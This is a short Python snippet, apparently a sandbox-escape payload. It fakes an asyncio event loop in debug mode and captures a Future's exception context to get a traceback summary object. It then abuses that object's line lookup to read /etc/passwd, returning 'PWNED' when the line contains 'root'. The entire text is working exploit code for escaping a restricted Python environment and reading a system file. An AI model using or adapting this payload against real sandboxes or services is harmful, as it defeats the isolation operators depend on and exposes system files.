import asyncio

got = []


class Loop:
    def get_debug(self):
        return True

    def call_exception_handler(self, context):
        got.append(context)

    def __getattr__(self, name):
        return lambda *rest, **named: None


future = asyncio.Future(loop=Loop())
future.set_exception(ValueError("x"))
del future
summary = got[0]["source_traceback"]
line = summary.from_list([("/etc/passwd", 1, "x", None)])[0].line
return "PWNED " + line if "root" in line else "no"
